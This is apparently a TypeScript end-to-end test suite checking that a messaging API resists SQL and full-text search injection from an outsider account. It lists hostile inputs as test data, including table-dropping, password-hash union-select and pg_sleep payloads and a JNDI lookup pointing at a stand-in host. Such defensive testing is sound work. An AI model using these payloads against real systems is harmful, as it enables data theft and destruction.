import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient, registerUser, type RegisteredUser } from '../support/api-client.js';
import type { TestServer } from '../support/server.js';
import { waitFor } from '../support/wait-for.js';
import { startSecurityServer } from './support/security-server.js';

/*
 * SQL and search-query injection through every string the API takes: answers are
 * 4xx or correct (possibly empty) results, never a 500, and never another user's
 * data. gateway/search/search.e2e.spec.ts already runs hostile full-text queries as
 * a member; here they run as an outsider, who must find nothing.
 */

const SQL = [
  "' or '1'='1",
  "' or 1=1 --",
  '" or ""="',
  "'; drop table accounts; --",
  "x' union select email, password_hash from accounts --",
  "'); select pg_sleep(5); --",
  '\\',
  "\\'; --",
  '%',
  '_',
  '%%',
  '*',
  '$1',
  '\u0000',
  '${jndi:ldap://evil.example/a}',
];
const SEARCH = [
  '*',
  ':*',
  '!',
  'a | b | c | d',
  '"" or ""',
  '-',
  '-- -- --',
  '& | ! ( )',
  "'' :* & !''",
  '<mark>',
  'x'.repeat(500),
];

describe('injection attempts', () => {
  let server: TestServer;
  let alice: RegisteredUser;
  let mallory: RegisteredUser;
  let conversationId: string;
  const secret = `zq${randomBytes(6).toString('hex')}`;

  beforeAll(async () => {
    server = await startSecurityServer();
    const anonymous = new ApiClient(server.baseUrl);
    [alice, mallory] = await Promise.all([
      registerUser(anonymous, 'alice'),
      registerUser(anonymous, 'mallory'),
    ]);
    conversationId = (
      await alice.api.post('/v1/conversations', { kind: 'group', memberIds: [], title: 'private' })
    ).body.id;
    await alice.api.post(`/v1/conversations/${conversationId}/messages`, {
      clientMsgId: randomUUID(),
      body: `the code is ${secret}`,
    });
    await waitFor('the message to be searchable', async () => {
      const found = await alice.api.get(`/v1/search/messages?q=${secret}`);
      return found.body.items?.length === 1;
    });
  });
  afterAll(async () => {
    await server?.close();
  });

  const q = encodeURIComponent;
  const expectSafe = (status: number, what: string) => expect(status < 500, `${what}: ${status}`).toBe(true);

  it('finds by username prefix only what starts with the text, wildcards included', async () => {
    for (const attempt of SQL) {
      const response = await mallory.api.get(`/v1/users?q=${q(attempt)}&limit=100`);
      expectSafe(response.status, attempt);
      if (response.status !== 200) continue;
      for (const user of response.body.items as { username: string; displayName: string }[]) {
        const starts = (text: string) => text.toLowerCase().startsWith(attempt.toLowerCase());
        expect(starts(user.username) || starts(user.displayName), `${attempt} found ${user.username}`).toBe(
          true,
        );
      }
      expect(JSON.stringify(response.body)).not.toContain('@');
    }
  });

  it('answers hostile ids in paths with 404 or 400', async () => {
    for (const attempt of SQL) {
      for (const path of [
        `/v1/users/${q(attempt)}`,
        `/v1/conversations/${q(attempt)}`,
        `/v1/conversations/${q(attempt)}/messages`,
        `/v1/conversations/${conversationId}/messages/${q(attempt)}/reactions/${q(attempt)}`,
      ]) {
        const response = await mallory.api.request(
          path.endsWith('reactions/' + q(attempt)) ? 'PUT' : 'GET',
          path,
        );
        expect([400, 404], `${path}: ${response.status}`).toContain(response.status);
      }
    }
  });

  it('answers hostile query parameters with 400 or a correct page', async () => {
    for (const attempt of SQL) {
      for (const path of [
        `/v1/conversations/${conversationId}/messages?beforeSeq=${q(attempt)}`,
        `/v1/conversations/${conversationId}/events?afterRev=${q(attempt)}`,
        `/v1/conversations?cursor=${q(attempt)}`,
        `/v1/users?limit=${q(attempt)}`,
      ]) {
        const response = await alice.api.get(path);
        expect([200, 400], `${path}: ${response.status}`).toContain(response.status);
      }
    }
  });

  it("gives an outsider's hostile searches nothing of other conversations", async () => {
    for (const attempt of [...SQL, ...SEARCH, `${secret} or 1=1`, `${secret}' or '1'='1`]) {
      const response = await mallory.api.get(`/v1/search/messages?q=${q(attempt)}`);
      expectSafe(response.status, attempt);
      if (response.status === 200) expect(response.body.items, attempt).toEqual([]);
      const scoped = await mallory.api.get(
        `/v1/search/messages?q=${q(attempt)}&conversationId=${conversationId}`,
      );
      expect([400, 404], attempt).toContain(scoped.status);
    }
  });

  it('refuses hostile credentials with 400 or 401, and stores hostile text verbatim', async () => {
    for (const attempt of SQL) {
      const login = await new ApiClient(server.baseUrl).post('/v1/auth/login', {
        identifier: attempt,
        password: attempt,
      });
      expect([400, 401, 429], `${attempt}: ${login.status}`).toContain(login.status);
      const register = await new ApiClient(server.baseUrl).post('/v1/auth/register', {
        email: `${attempt}@example.test`,
        username: attempt,
        password: 'correct horse battery staple',
        displayName: 'x',
      });
      expect(register.status, attempt).toBe(400);
    }
    const hostile = SQL.filter((text) => text.trim() !== '' && !text.includes('\u0000')).join(' ');
    const sent = await alice.api.post(`/v1/conversations/${conversationId}/messages`, {
      clientMsgId: randomUUID(),
      body: hostile,
    });
    expect(sent.status).toBe(201);
    expect(sent.body.body).toBe(hostile);
    const renamed = await alice.api.patch('/v1/me', { displayName: "Robert'); drop table users;--" });
    expect(renamed.status).toBe(200);
    expect((await alice.api.get('/v1/me')).body.displayName).toBe("Robert'); drop table users;--");
  });
});
